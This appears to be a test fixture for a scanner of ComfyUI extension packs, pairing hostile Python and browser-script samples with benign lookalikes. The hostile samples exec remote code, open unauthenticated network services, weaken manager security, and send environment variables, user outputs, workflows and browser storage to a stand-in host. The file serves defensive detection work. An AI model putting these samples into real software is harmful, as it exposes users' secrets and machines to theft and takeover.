import { type Attack, python, script } from './attack-pack.test-support.ts'

const app = 'import { app } from "../../scripts/app.js"\n'
const api = 'import { api } from "../../scripts/api.js"\n'

/** Attacks through libraries and services whose purpose is another one. */
export const libraryAttacks: Attack[] = [
  python(
    'lets a library for mathematics evaluate what an address answers',
    'import sympy, requests\nsympy.sympify(requests.get("https://example.test/e").text)',
    'import sympy\nsympy.sympify("x + 1")',
  ),
  python(
    'sets up its logging with what an address answers',
    'import logging.config, requests\nlogging.config.dictConfig(requests.get("https://example.test/c").json())',
    'import logging.config, json\nlogging.config.dictConfig(json.load(open("log.json")))',
  ),
  python(
    'starts a notebook server without a password',
    'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--ip=0.0.0.0", "--ServerApp.token=", "--ServerApp.password="])',
    'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--no-browser"])',
  ),
  python(
    'shares a terminal',
    'import os\nos.system("ttyd -p 7681 -W bash &")',
    'import os\nos.system("stty size")',
  ),
  python(
    'builds the objects that other machines send',
    'from multiprocessing.connection import Listener\nlistener = Listener(("0.0.0.0", 6000))\nlistener.accept().recv()',
    'from multiprocessing.connection import Listener\nlistener = Listener(("127.0.0.1", 6000))\nlistener.accept().recv()',
  ),
  python(
    'waits for a debugger of the whole network',
    'import debugpy\ndebugpy.listen(("0.0.0.0", 5678))',
    'import debugpy\ndebugpy.listen(("127.0.0.1", 5678))',
  ),
  python(
    'puts what it downloaded into every program that starts',
    'import os, urllib.request\nurllib.request.urlretrieve("https://example.test/l.so", "/tmp/l.so")\nos.environ["LD_PRELOAD"] = "/tmp/l.so"',
    'import os\nos.environ["LD_PRELOAD"] = "/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4"',
  ),
  python(
    'lowers the protection of the manager',
    'import configparser, os, folder_paths\npath = os.path.join(folder_paths.get_user_directory(), "default", "ComfyUI-Manager", "config.ini")\nc = configparser.ConfigParser()\nc.read(path)\nc["default"]["security_level"] = "weak"\nc.write(open(path, "w"))',
    'import configparser\nc = configparser.ConfigParser()\nc.read("mypack.ini")\nc["default"]["quality_level"] = "weak"\nc.write(open("mypack.ini", "w"))',
  ),
  python(
    'puts another tree into the folder of its repository',
    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(["git", "-C", here, "fetch", "origin", "next"])\nsubprocess.run(["git", "-C", here, "read-tree", "-u", "--reset", "FETCH_HEAD"])',
    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(["git", "-C", here, "ls-tree", "HEAD"])',
  ),
  python(
    'mails the environment',
    'import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content("\\n".join(f"{k}={v}" for k, v in os.environ.items()))\nsmtplib.SMTP("mail.example.test").send_message(m)',
    'import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content("The queue is empty.")\nsmtplib.SMTP("mail.example.test").send_message(m)',
  ),
  python(
    'copies the outputs of the user to a server of its own',
    'import ftplib, folder_paths, os\nftp = ftplib.FTP("ftp.example.test", "u", "p")\nout = folder_paths.get_output_directory()\nfor name in os.listdir(out):\n    ftp.storbinary("STOR " + name, open(os.path.join(out, name), "rb"))',
    'import ftplib\nclass Upload:\n    def run(self, path, host, user, password):\n        ftplib.FTP(host, user, password).storbinary("STOR a.png", open(path, "rb"))',
  ),
  python(
    'uploads the outputs of the user to an account at a hub',
    'import folder_paths\nfrom huggingface_hub import HfApi\nHfApi().upload_folder(folder_path=folder_paths.get_output_directory(), repo_id="someone/results")',
    'from huggingface_hub import HfApi\nclass Upload:\n    def run(self, folder, repo):\n        HfApi().upload_folder(folder_path=folder, repo_id=repo)',
  ),
  python(
    'keeps exec as a method of a class',
    'import requests\nclass Task:\n    run = staticmethod(exec)\n    def __call__(self):\n        type(self).run(requests.get("https://example.test").text)\nTask()()',
    'import requests\nclass Task:\n    run = staticmethod(print)\n    def __call__(self):\n        type(self).run(requests.get("https://example.test").text)\nTask()()',
  ),
  python(
    'asks the manager to install a repository',
    'import requests\nrequests.post("http://127.0.0.1:8188/customnode/install/git_url", data="https://example.test/a.git")',
    'import requests\nrequests.get("http://127.0.0.1:8188/customnode/getlist?mode=cache")',
  ),
  script(
    'asks the manager to install a repository from its script',
    `${api}api.fetchApi("/customnode/install/git_url", { method: "POST", body: "https://example.test/a.git" })`,
    `${api}api.fetchApi("/customnode/getlist?mode=cache")`,
  ),
  script(
    'writes a page with a foreign script into a frame',
    'const f = document.createElement("iframe"); f.srcdoc = "<script src=https://example.test/a.js></scr" + "ipt>"; document.body.append(f)',
    'const f = document.createElement("iframe"); f.srcdoc = "<p>Hello</p>"; document.body.append(f)',
  ),
  script(
    'sends the workflow through a channel between browsers',
    `${app}const c = new RTCPeerConnection().createDataChannel("x"); c.onopen = async () => c.send(JSON.stringify(await app.graphToPrompt()))`,
    'const c = new RTCPeerConnection().createDataChannel("x"); c.onopen = () => c.send("hello")',
  ),
  script(
    'hides the workflow in the address of a background',
    `${app}const w = JSON.stringify(app.graph.serialize()); document.body.style.background = \`url(https://example.test/p?d=\${encodeURIComponent(w)})\``,
    `${app}document.body.style.background = "url(/extensions/x/bg.png)"`,
  ),
  script(
    'copies what the page sends to its server',
    `${api}const old = api.fetchApi.bind(api); api.fetchApi = async (route, options) => { navigator.sendBeacon("https://example.test/c", options?.body); return old(route, options) }`,
    `${api}const old = api.fetchApi.bind(api); api.fetchApi = async (route, options) => { console.debug(route); return old(route, options) }`,
  ),
  script(
    'sends what other extensions keep in the browser',
    'indexedDB.databases().then((all) => { for (const { name } of all) { const r = indexedDB.open(name); r.onsuccess = () => { const s = r.result.transaction("a").objectStore("a").getAll(); s.onsuccess = () => fetch("https://example.test", { method: "POST", body: JSON.stringify(s.result) }) } } })',
    'const r = indexedDB.open("my-pack"); r.onsuccess = () => { const s = r.result.transaction("a").objectStore("a").getAll(); s.onsuccess = () => show(s.result) }',
  ),
]
